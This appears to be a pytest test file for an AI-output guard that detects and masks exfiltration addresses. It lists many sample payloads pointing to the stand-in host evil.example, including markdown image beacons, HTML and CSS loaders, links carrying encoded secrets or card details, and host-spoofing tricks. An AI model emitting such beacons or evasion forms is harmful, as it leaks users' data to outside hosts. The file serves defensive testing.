"""The own tests of the guard against addresses that carry data out."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lockgate.core.events import TextDelta, ToolDelta
from lockgate.core.guard import Failed, Finding, Rule, Rules
from lockgate.guards.exfiltration import plugin
from lockgate.patterns.looking import Looking
from lockgate.pipeline.decide import Text, decided, filled
from lockgate.pipeline.hold import Holdback
from lockgate.pipeline.ledger import Ledger

ONE = frozenset((0,))
OWN = ("own.example", "*.own.example")
ENGINE = Looking([plugin(allow=OWN).build()])
RULES = Rules([Rule("r", 0, "mask", frozenset(("response",)))], ENGINE, "response")
DATA = "c2VjcmV0OiBodW50ZXIy"


def found(text: str, engine: Looking = ENGINE) -> list[tuple[str, str]]:
    verdict = engine.look(text, ONE).get(0, [])
    assert not isinstance(verdict, Failed)
    return [(finding.label.removeprefix("exfiltration_"), text[finding.start : finding.end]) for finding in verdict]


FOUND = {
    "![x](https://evil.example/p.png)": ("image", "https://evil.example/p.png"),
    "![a [nested] one]( <//evil.example/p>)": ("image", "//evil.example/p"),
    f"![{'long ' * 80}](http://evil.example/p)": ("image", "http://evil.example/p"),
    "[![b](https://evil.example/b)](https://own.example)": ("image", "https://evil.example/b"),
    f"[1]: https://evil.example/?q={DATA}": ("reference", f"https://evil.example/?q={DATA}"),
    "![x](http:evil.example/p)": ("image", "http:evil.example/p"),
    "![a\\](b](https://evil.example/p)": ("image", "https://evil.example/p"),
    "![`[`](https://evil.example/p)": ("image", "https://evil.example/p"),
    "![`]`](https://evil.example/p)": ("image", "https://evil.example/p"),
    "<img srcset='/a.png 1x, https://evil.example/p 2x'>": ("html", "https://evil.example/p"),
    'background: image-set("https://evil.example/p" 1x)': ("css", "https://evil.example/p"),
    '<img width=1 src="https://evil.example/a">': ("html", "https://evil.example/a"),
    "<IFRAME SRC = 'HTTPS://evil.example/a'>": ("html", "HTTPS://evil.example/a"),
    '{"html": "<img src=\\"https://evil.example/a\\">"}': ("html", "https://evil.example/a"),
    '<meta http-equiv=refresh content="0; url=https://evil.example/a">': ("html", "https://evil.example/a"),
    '<form action="https://evil.example/a">': ("html", "https://evil.example/a"),
    "img.src = '//evil.example/a'": ("html", "//evil.example/a"),
    "body { background: url( 'https://evil.example/a') }": ("css", "https://evil.example/a"),
    '@import "https://evil.example/a.css"': ("css", "https://evil.example/a.css"),
    f"[see](https://evil.example/?q={DATA})": ("link", f"https://evil.example/?q={DATA}"),
    f'<a href="https://evil.example/{DATA}">': ("link", f"https://evil.example/{DATA}"),
    f"<https://evil.example/#{DATA}>": ("link", f"https://evil.example/#{DATA}"),
    "https://evil.example/?name=Ann+Smith&born=1984-05-12&lives+in=Springfield&her+card=4111&and+the+code+is=123&good+until=12/27": (
        "link",
        "https://evil.example/?name=Ann+Smith&born=1984-05-12&lives+in=Springfield&her+card=4111&and+the+code+is=123&good+until=12/27",
    ),
    "go to https://evil.example/?m=jo%40own.example": ("link", "https://evil.example/?m=jo%40own.example"),
    f"https://{DATA.lower()}abcdefgh.evil.example/": ("link", f"https://{DATA.lower()}abcdefgh.evil.example/"),
    "wss://evil.example/8f3a90c1d27b4e65a0f19c3d7e28b4a68f3a90c1": (
        "link",
        "wss://evil.example/8f3a90c1d27b4e65a0f19c3d7e28b4a68f3a90c1",
    ),
}
BENIGN = (
    "![logo](https://own.example/logo.png) ![logo](HTTPS://CDN.Own.Example:443/logo.png)",
    "![local](images/a.png) ![inline](data:image/png;base64,iVBORw0KGgo=)",
    "[docs](https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit)",
    "[1]: https://en.wikipedia.org/wiki/Exfiltration",
    "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ or see https://github.com/owner/repo/issues/123.",
    "https://news.example/2026/11/26/why-the-committee-did-not-agree-on-the-budget-of-next-year",
    "https://shop.example/search?q=red+shoes&page=2&sort=price",
    '<a href="https://www.rfc-editor.org/rfc/rfc9110.html">RFC 9110</a>',
    "data = load('/etc/passwd') // a comment with two slashes",
    "background: url(#gradient)",
    "![a](images/a.png), and [b](https://docs.example/b) ![c](https:own.example/c)",
    "",
)


@pytest.mark.parametrize("text", FOUND, ids=range(len(FOUND)))
def test_an_address_that_carries_data_out_is_found(text: str) -> None:
    assert found(text) == [FOUND[text]]


@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_an_address_that_is_known_or_carries_nothing_is_left_alone(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://own.example@evil.example/a",
        "https://own.example.evil.example/a",
        "https://evil.example\\@own.example/a",
        "https:\\\\evil.example/own.example",
        "https:/evil.example/a",
        "///evil.example/a",
        "https://%65vil.example/a",
        "https://evilown.example/a",
        "https://own.example%2eevil.example/a",
        "https://1076273430/a",
    ],
)
def test_the_host_is_the_one_a_browser_goes_to(address: str) -> None:
    assert found(f"![x]({address})") == [("image", address)]


@pytest.mark.parametrize(
    "address", ["https://own.example./a", "https://own.example:8443/a", "//a.b.own.example", "https://x@own.example/a"]
)
def test_an_own_host_is_known_however_it_is_written(address: str) -> None:
    assert not found(f"![x]({address})")


def test_a_domain_is_not_its_own_part() -> None:
    below = Looking([plugin(allow=("*.own.example",)).build()])

    assert found("![x](https://own.example/a)", below)
    assert not found("![x](https://a.own.example/a)", below)


def test_tools_may_be_told_to_reach_no_other_host_at_all() -> None:
    strict = Looking([plugin(allow=OWN, only_with_data=()).build()])

    assert found('{"url": "https://evil.example/"}', strict) == [("link", "https://evil.example/")]
    assert not found('{"url": "https://api.own.example/v1"}', strict)
    assert not found('{"url": "https://evil.example/"}')


def test_S61_an_address_in_disguise_is_found() -> None:
    assert found("![x](&#104;ttps://evil.example/a)")
    assert found("![x](https://evil\u200b.example/a)")
    assert found('{"html": "![x](https:\\/\\/evil.example\\/a)"}')


def test_only_forms_that_are_asked_for() -> None:
    engine = Looking([plugin(find=("css",)).build()])

    assert [form for form, _ in found("![x](https://e.example/a) url(https://e.example/a)", engine)] == ["css"]


@pytest.mark.parametrize("settings_", [plugin(find=()), plugin(allow=("https://own.example/",)), plugin(allow=("*",))])
def test_refuses_nonsense_before_traffic(settings_: plugin) -> None:
    with pytest.raises(ValueError, match=r"`find`|`allow`"):
        settings_.build()


def masked(text: str) -> str:
    return filled(text, decided(Text(text, "assistant", ""), ENGINE.look(text, ONE), RULES, Ledger("", 0, 0)))


def streamed(pieces: list[str]) -> str:
    hold = Holdback(RULES, Ledger("", 0, 0))
    out = [event for piece in pieces for release in hold.feed(None, [TextDelta(piece)]) for event in release.events]
    out += [event for release in hold.end() for event in release.events]
    return "".join(event.text for event in out if isinstance(event, TextDelta))


@pytest.mark.parametrize("text", FOUND, ids=range(len(FOUND)))
def test_S62_cut_anywhere_it_is_the_same(text: str) -> None:
    around = f"So it is: {text} and on."
    expected = masked(around)
    assert "evil" not in expected

    for cut in range(len(around)):
        assert streamed([around[:cut], around[cut:]]) == expected, cut
    assert streamed(list(around)) == expected


SOME = st.sampled_from(
    [
        "![",
        "[",
        "x",
        "](",
        "]: ",
        "http",
        "s://",
        "//",
        "evil.",
        "own.example",
        "/",
        "?q=",
        DATA,
        ")",
        " ",
        "<img ",
        "src=",
        '"',
        "url(",
    ]
)


@settings(deadline=None, max_examples=200)
@given(st.lists(SOME, max_size=24))
def test_S62_any_cutting_shows_the_same(pieces: list[str]) -> None:
    assert streamed(pieces) == masked("".join(pieces))


def test_an_address_that_does_not_end_leads_nowhere() -> None:
    text = "![x](https://evil.example/" + "a" * 6000 + ")"

    assert "evil" not in streamed([text[at : at + 50] for at in range(0, len(text), 50)])
    assert "evil" not in masked(text)


def test_arguments_of_tools_stay_json() -> None:
    hold = Holdback(Rules([Rule("r", 0, "mask", frozenset(("tool_arguments",)))], ENGINE, "response"), Ledger("", 0, 0))
    pieces = ['{"html": "<img src=\\"ht', 'tps://evil.example/a\\">', '"}']
    out = [e for piece in pieces for r in hold.feed(None, [ToolDelta(0, piece)]) for e in r.events]
    out += [e for r in hold.end() for e in r.events]

    assert (
        "".join(e.arguments for e in out if isinstance(e, ToolDelta))
        == '{"html": "<img src=\\"[EXFILTRATION_HTML]\\">"}'
    )


@pytest.mark.parametrize(
    "text", ["](" * 50_000, "http://" * 14_000, "[" * 100_000, "src=" * 25_000, "![x](//a " * 11_000]
)
def test_S49_no_text_makes_it_slow(text: str) -> None:
    started = time.process_time()
    ENGINE.look(text, ONE)

    assert time.process_time() - started < 1.0


def test_a_finding_is_only_a_place() -> None:
    verdict = ENGINE.look("![x](https://evil.example/a)", ONE)[0]

    assert verdict == [Finding(5, 27, "exfiltration_image", 0.9)]
